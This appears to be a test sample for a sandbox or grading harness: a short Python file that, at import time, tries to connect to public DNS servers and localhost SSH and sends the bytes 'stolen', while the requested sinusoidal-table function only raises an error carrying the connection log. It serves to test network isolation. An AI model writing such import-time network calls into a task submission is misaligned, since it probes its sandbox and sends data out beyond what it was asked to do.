"""Attack: open network sockets (exfiltrate, or fetch an answer) before answering."""
import socket

import torch

_log = []
for host, port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22)):
    try:
        with socket.create_connection((host, port), timeout=0.5) as s:
            s.sendall(b"stolen")
            _log.append(f"connected to {host}")
    except OSError as exc:
        _log.append(f"{host}: {exc}")


def sinusoidal_table(max_len, d_model):
    raise NotImplementedError("; ".join(_log))
